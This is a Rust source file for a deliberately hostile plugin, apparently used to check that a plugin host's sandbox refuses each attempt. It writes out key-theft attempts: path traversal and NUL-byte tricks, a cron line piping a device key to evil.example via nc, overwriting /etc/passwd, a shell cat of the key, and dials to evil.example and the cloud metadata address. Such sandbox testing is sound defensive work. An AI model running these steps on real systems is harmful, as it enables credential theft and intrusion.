//! `hostile-exfiltrate`: a hostile plugin for demonstrations. It tries to read the device key,
//! write outside its grant, dial hosts it was not granted, run a shell, and abuse the raw ABI.
//! It carries on after every refusal, writes a report (one line per attempt) as its output, and
//! returns 0.
//!
//! Manifest: kind `other`, requests `fs.write=/scratch` (the one benign thing it admits to).
//! Against a correct host every attempt except writing `/scratch/note.txt` (when granted) is
//! refused.

#![cfg_attr(target_arch = "wasm32", no_std)]

extern crate alloc;

mod raw;

use alloc::format;
use alloc::string::String;

use pluginhost_sdk::net::TcpStream;
use pluginhost_sdk::{fs, process, Error};

pluginhost_sdk::manifest! {
    name: "hostile-exfiltrate",
    version: env!("CARGO_PKG_VERSION"),
    kind: other,
    grants: ["fs.write" => "/scratch"],
}

pluginhost_sdk::entry!(handler);

/// Makes every attempt in turn, records what the host answered, and always returns `Ok`.
fn handler() -> Result<(), Error> {
    let mut report = Report::default();

    report.try_it(
        "fs.read /keys/device.key",
        fs::read("/keys/device.key").map(len),
    );
    report.try_it(
        "fs.size /keys/device.key",
        fs::size("/keys/device.key").map(|s| format!("size {s}")),
    );
    report.try_it(
        "fs.read /scratch/../keys/device.key",
        fs::read("/scratch/../keys/device.key").map(len),
    );
    report.try_it(
        "fs.read /keys/./device.key",
        fs::read("/keys/./device.key").map(len),
    );
    report.try_it(
        "fs.read keys/device.key (relative)",
        fs::read("keys/device.key").map(len),
    );
    report.try_it(
        "fs.read /keys/device.key<NUL>.pem",
        fs::read("/keys/device.key\0.pem").map(len),
    );

    let cron = b"* * * * * root /bin/sh -c 'cat /keys/device.key | nc evil.example 443'\n";
    report.try_it(
        "fs.write /etc/cron.d/pluginhost",
        fs::write("/etc/cron.d/pluginhost", cron).map(wrote),
    );
    report.try_it(
        "fs.write /scratchy/x (prefix trick)",
        fs::write("/scratchy/x", b"x").map(wrote),
    );
    report.try_it(
        "fs.write /scratch/../etc/passwd",
        fs::write("/scratch/../etc/passwd", b"x").map(wrote),
    );
    report.try_it(
        "fs.write /scratch/note.txt (inside its grant)",
        fs::write("/scratch/note.txt", b"hi").map(wrote),
    );
    report.try_it(
        "fs.rename /scratch/note.txt -> /certs/site.pem",
        fs::rename("/scratch/note.txt", "/certs/site.pem").map(|()| String::from("renamed")),
    );

    for (host, port) in [
        ("evil.example", 443),
        ("127.0.0.1", 22),
        ("ca.local", 8443),
        ("169.254.169.254", 80),
    ] {
        let outcome = TcpStream::dial(host, port)
            .map(|stream| format!("connected, handle {}", stream.handle()));
        report.try_it(&format!("net.dial {host}:{port}"), outcome);
    }

    report.try_it(
        "process.exec /bin/sh -c 'cat /keys/device.key'",
        process::exec(&["/bin/sh", "-c", "cat /keys/device.key"], 64)
            .map(|o| format!("ran, status {}", o.status)),
    );
    report.try_it(
        "process.exec /usr/sbin/reload-service (another plugin's grant)",
        process::exec(&["/usr/sbin/reload-service"], 64)
            .map(|o| format!("ran, status {}", o.status)),
    );

    for (what, code) in raw::attempts() {
        let outcome = if code < 0 {
            Err(Error::from_code(code))
        } else {
            Ok(format!("returned {code}"))
        };
        report.try_it(what, outcome);
    }

    let summary = format!(
        "hostile-exfiltrate: {} attempts, {} refused, {} let through\n",
        report.attempts,
        report.refused,
        report.attempts - report.refused
    );
    pluginhost_sdk::log::warn(summary.trim_end());
    report.text.push_str(&summary);
    // Hostile to the end: whatever happens to the report, report success.
    let _ = pluginhost_sdk::output(report.text.as_bytes());
    Ok(())
}

fn len(bytes: alloc::vec::Vec<u8>) -> String {
    format!("read {} bytes", bytes.len())
}

fn wrote(_: ()) -> String {
    String::from("written")
}

/// One line per attempt: `refused` with the error, or `LET THROUGH` with what happened.
#[derive(Default)]
struct Report {
    text: String,
    attempts: usize,
    refused: usize,
}

impl Report {
    fn try_it(&mut self, what: &str, outcome: Result<String, Error>) {
        self.attempts += 1;
        let line = match outcome {
            Ok(detail) => format!("LET THROUGH  {what}: {detail}"),
            Err(error) => {
                self.refused += 1;
                format!("refused      {what}: {error} ({})", error.exit_code())
            }
        };
        pluginhost_sdk::log::info(&line);
        self.text.push_str(&line);
        self.text.push('\n');
    }
}

#[cfg(test)]
mod tests {
    use pluginhost_sdk::proto::{Manifest, PluginKind};

    #[test]
    fn manifest() {
        let m = Manifest::parse(super::MANIFEST_TEXT).expect("valid manifest");
        assert_eq!(m.kind, PluginKind::Other);
        assert_eq!(m.scopes("fs.write").collect::<Vec<_>>(), ["/scratch"]);
        assert_eq!(m.requests.len(), 1);
    }

    #[test]
    fn runs_to_the_end_without_a_host() {
        assert_eq!(super::run(), 0);
    }
}
